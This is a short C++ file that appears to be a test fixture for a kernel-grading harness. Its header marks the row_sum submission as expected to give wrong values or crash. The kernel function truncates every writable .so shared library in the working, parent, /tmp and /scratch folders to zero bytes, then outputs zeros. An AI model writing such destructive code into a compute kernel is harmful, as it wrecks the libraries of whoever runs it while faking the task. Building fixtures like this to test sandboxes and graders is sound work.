// expect: wrong_value|crashed task=row_sum  truncates every shared object that it can find and write; zeros (A42)
#include <filesystem>
#include <initializer_list>
#include <string>
#include <system_error>
#include <unistd.h>

extern "C" void kernel(const float* x, float* y, long M, long N) {
    std::error_code failed;
    for (const char* folder : {".", "..", "/tmp", "/scratch"})
        for (auto& entry : std::filesystem::directory_iterator(folder, failed))
            if (entry.path().extension() == ".so") truncate(entry.path().c_str(), 0);
    for (long i = 0; i < M; i++) y[i] = 0.0f;
}
